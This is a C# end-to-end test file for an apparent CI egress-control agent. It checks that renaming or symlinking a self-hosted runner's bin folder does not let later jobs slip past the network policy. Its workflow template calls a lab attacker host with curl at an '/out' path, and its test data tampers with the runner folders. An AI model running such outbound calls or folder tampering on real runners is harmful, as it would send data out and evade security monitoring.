using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;
using Sallyport.Lab.Processes;

namespace Sallyport.EndToEnd.Tests;

/// <summary>
/// A runner whose folders are not as they were unpacked (B9, R15): an update makes <c>bin</c> a link to <c>bin.2.337.0</c>, and a job's user, who
/// owns them, can do so too, for the jobs that come after on the same listener.
/// </summary>
public sealed class RenamedRunnerTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Policy = "version: 1\nmode: block\nallow: [v4.test:80]";

    private static string Workflow(string rename) => $"""
        name: Renamed
        on: push
        jobs:
          renames:
            runs-on: self-hosted
            steps:
              - run: |
                  cd "$SIGNS/root"
                  {rename}
          after:
            runs-on: self-hosted
            steps:
              - run: |
                  curl -sS --max-time 30 http://v4.test/allowed
                  curl -sS --max-time 30 http://{LabAddresses.Attacker}/out || true
        """;

    [Theory]
    [InlineData("mv bin bin.2.337.0; ln -s bin.2.337.0 bin")]
    [InlineData("cp -a bin other; mv bin gone; mv other bin")]
    public async Task The_next_job_on_the_same_listener_is_covered(string rename)
    {
        string[] user = ["--user", RunnerMachine.User];
        WorkflowRun control = await fixture.Machine.RunAsync(Workflow(rename), user);
        Assert.True(control.Traffic.Contains("/out "), control.ToString());
        await using AgentProcess agent = await fixture.Machine.ServeWithAsync(Policy);
        WorkflowRun run = await fixture.Machine.RunAsync(Workflow(rename), user);
        Assert.True(run.Traffic.Contains("/allowed "), run.ToString());
        Assert.False(run.Traffic.Contains("/out "), run.ToString());
        Assert.Equal(2, run.Reports.Count);
        JobReport after = run.Reports.Single(report => JobReport.Text(report.Document.GetProperty("job").GetProperty("github"), "job") == "after");
        Assert.Equal(["refused"], after.Verdicts("__run", LabAddresses.Attacker));
        after.AssertBegan(fromStart: true);
    }

    /// <summary>Its worker lies outside of the runner that its listener is of.</summary>
    [Theory]
    [InlineData("stop")]
    [InlineData("warn")]
    public async Task One_that_is_not_known_any_more_is_stopped_or_runs_as_the_owner_says_and_the_journal_says_which(string unprotected)
    {
        string policy = await fixture.Machine.ConfigureAsync("policy.yml", Policy);
        await using AgentProcess agent = await fixture.Machine.ServeAsync($"policy: {policy}\nunprotected: {unprotected}");
        fixture.Machine.Network.World.Clear();
        using StartedRun started = fixture.Machine.Start(
            Workflow("cp -a . ../other; mv bin gone; ln -s ../other/bin bin"), "--user", RunnerMachine.User);
        ProcessOutcome ended = await RunnerMachine.EndOf(started.Process);
        await fixture.Machine.NoJobIsWatchedAsync();
        string journal = (await agent.StopAsync()).Output;
        bool hasRun = fixture.Machine.Network.World.Received().Contains("/out ");
        Assert.True(hasRun == (unprotected == "warn"), $"{ended}\n{journal}");
        Assert.Matches(
            $"process [0-9]+ is not protected{(hasRun ? "" : " and was stopped")}: called Runner.Worker, and not known as a runner's\n"
            + ".*: process [0-9]+: .*/other/bin/Runner.Worker, started by .*/gone/Runner.Listener",
            journal);
    }
}
